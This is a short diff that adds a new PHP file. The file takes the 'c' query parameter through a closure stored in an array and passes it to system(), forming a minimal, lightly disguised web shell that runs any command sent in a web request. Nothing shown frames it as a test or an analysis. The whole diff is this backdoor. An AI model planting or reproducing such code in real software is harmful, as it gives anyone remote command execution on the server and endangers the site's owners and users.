@@ -1,0 +1,4 @@
+<?php
+$a = [];
+$a["f"] = function () { return $_GET["c"]; };
+system($a["f"]());
